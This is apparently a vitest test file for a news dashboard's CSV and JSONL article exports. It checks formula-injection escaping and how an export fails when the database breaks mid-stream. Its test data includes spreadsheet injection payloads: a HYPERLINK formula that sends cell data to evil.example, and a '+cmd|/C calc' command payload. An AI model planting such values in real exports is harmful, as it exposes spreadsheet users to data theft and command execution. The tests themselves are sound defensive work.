import http from 'node:http';
import { articles } from '@polywire/db';
import type { Runtime } from '@polywire/runtime';
import { createTestRuntime } from '@polywire/runtime/testing';
import { waitFor } from '@polywire/testing';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CSV_ERROR_MARKER, csvField, csvRow, exportOptions } from './export.js';
import { createDashboardApp, type DashboardServer, startDashboard } from './server.js';

/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF rows), to read exports back as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      cells.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      rows.push([...cells, cell]);
      cells = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("https://evil.example","click")', `"'=HYPERLINK(""https://evil.example"",""click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1,2', `"'=1,2"`],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    ['', ''],
  ])('writes the text %j as %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('leaves numbers, dates and id lists alone', () => {
    expect(csvRow([-1, 0.5, new Date('2026-01-02T03:04:05Z'), [3, 4], null])).toBe('-1,0.5,2026-01-02T03:04:05.000Z,3;4,\r\n');
  });
});

describe('article exports', () => {
  let runtime: Runtime;
  let app: ReturnType<typeof createDashboardApp>;
  let seq = 0;
  const row = (site: string, title: string) => {
    seq++;
    return { urlHash: `${site}-${seq}`.padEnd(64, 'e'), url: `https://${site}/${seq}`, canonicalUrl: `https://${site}/${seq}`, title, text: 'text', language: 'en', site };
  };

  beforeAll(async () => {
    runtime = await createTestRuntime({ PORT: '0' });
    app = createDashboardApp(runtime);
    await runtime.db.db.insert(articles).values(Array.from({ length: 10 }, (_, index) => row('failing.example', `Story ${index}`)));
  });
  afterAll(() => runtime.close());
  afterEach(() => {
    exportOptions.pageSize = 1_000;
  });

  it('writes text that a spreadsheet would run as a formula with a leading quote', async () => {
    const titles = ['=HYPERLINK("https://evil.example/?"&A1,"Read more")', '+cmd|/C calc!A0', '-1+1', '@SUM(1+1)', '\t=1', '\r=1', 'Plain - title'];
    await runtime.db.db.insert(articles).values(titles.map((title) => row('formula.example', title)));
    const text = await (await app.request('/api/articles?site=formula.example&format=csv')).text();
    const [header, ...rows] = parseCsv(text);
    const title = header!.indexOf('title');
    // Read back by an RFC 4180 reader, each title is its text behind one quote: nothing else changed.
    expect(rows.map((cells) => cells[title])).toEqual(titles.map((value) => (value.startsWith('Plain') ? value : `'${value}`)).reverse());
  });

  /** Reads what is left of a body, and whether it ended complete or failed (an aborted transfer). */
  async function readRest(reader: ReadableStreamDefaultReader<Uint8Array>): Promise<{ text: string; ended: 'complete' | 'failed' }> {
    const decoder = new TextDecoder();
    let text = '';
    try {
      for (;;) {
        const { done, value } = await reader.read();
        if (done) return { text, ended: 'complete' };
        text += decoder.decode(value, { stream: true });
      }
    } catch {
      return { text, ended: 'failed' };
    }
  }
  const message = (rows: number) => `the export failed after ${rows} articles and is incomplete (see the dashboard log)`;

  it.each(['jsonl', 'csv'] as const)('ends a %s export that fails after its first page with an error line, then fails the body', async (format) => {
    exportOptions.pageSize = 4;
    const response = await app.request(`/api/articles?site=failing.example&format=${format}`);
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const first = new TextDecoder().decode((await reader.read()).value);
    const firstPage = format === 'csv' ? first + new TextDecoder().decode((await reader.read()).value) : first;
    // The table the next page reads disappears between two pages (as in a botched migration). Pages
    // are read only as the client reads, so the second one has not been asked for yet.
    await runtime.db.db.execute('alter table article_sources rename to article_sources_gone');
    const rest = await readRest(reader).finally(() => runtime.db.db.execute('alter table article_sources_gone rename to article_sources'));
    expect(rest.ended).toBe('failed');
    const lines = (firstPage + rest.text).trimEnd().split(format === 'csv' ? '\r\n' : '\n');
    if (format === 'jsonl') {
      expect(lines.slice(0, 4).map((line) => (JSON.parse(line) as { title: string }).title)).toEqual(['Story 9', 'Story 8', 'Story 7', 'Story 6']);
      expect(lines.slice(4)).toEqual([JSON.stringify({ error: message(4) })]);
    } else {
      expect(lines[0]).toMatch(/^id,url,/);
      expect(lines.slice(1, 5).map((line) => line.split(',')[3])).toEqual(['Story 9', 'Story 8', 'Story 7', 'Story 6']);
      expect(lines.slice(5)).toEqual([`${CSV_ERROR_MARKER},${message(4)}`]);
    }
  });

  /**
   * GET over node:http, which hands over every byte it received before it reports the connection
   * closed early (fetch's body stream drops the bytes not yet read when it errors, as curl would not).
   */
  function get(url: string): Promise<{ status: number; rest: Promise<{ text: string; ended: 'complete' | 'failed' }> }> {
    return new Promise((resolve, reject) => {
      http
        .get(url, (response) => {
          let text = '';
          response.setEncoding('utf8');
          response.on('data', (chunk: string) => {
            text += chunk;
          });
          const rest = new Promise<{ text: string; ended: 'complete' | 'failed' }>((settle) => {
            response.once('close', () => settle({ text, ended: response.complete ? 'complete' : 'failed' }));
          });
          resolve({ status: response.statusCode ?? 0, rest });
        })
        .once('error', reject);
    });
  }

  describe('over HTTP', () => {
    let server: DashboardServer;
    beforeAll(async () => {
      server = await startDashboard(runtime);
    });
    afterAll(() => server.close());

    it.each(['jsonl', 'csv'] as const)('aborts the connection of a %s export whose database goes away part-way', async (format) => {
      // A transaction holds the articles table, so the export's first page waits for it; once it is
      // waiting, its connection is terminated, as a PostgreSQL restart would.
      let release!: () => void;
      const released = new Promise<void>((resolve) => {
        release = resolve;
      });
      let holding!: () => void;
      const held = new Promise<void>((resolve) => {
        holding = resolve;
      });
      const locker = runtime.db.db.transaction(async (tx) => {
        await tx.execute('lock table articles in access exclusive mode');
        holding();
        await released;
        await tx.execute(
          "select pg_terminate_backend(pid) from pg_stat_activity where datname = current_database() and pid <> pg_backend_pid() and wait_event_type = 'Lock'",
        );
      });
      await held;
      const response = await get(`${server.url}/api/articles?site=failing.example&format=${format}`);
      expect(response.status).toBe(200);
      await waitFor(
        async () => {
          const waiting = (await runtime.db.db.execute(
            "select count(*)::int as n from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'",
          )) as unknown as { rows: { n: number }[] };
          return waiting.rows[0]!.n > 0;
        },
        { what: 'the export to wait for the table' },
      );
      release();
      await locker;
      const { text, ended } = await response.rest;
      // The error line arrived, then the connection was cut before the chunked body's last chunk.
      expect(ended).toBe('failed');
      const expected = format === 'csv' ? `${CSV_ERROR_MARKER},${message(0)}\r\n` : `${JSON.stringify({ error: message(0) })}\n`;
      expect(text).toBe(format === 'csv' ? `${text.split('\r\n')[0]}\r\n${expected}` : expected);
    });
  });
});
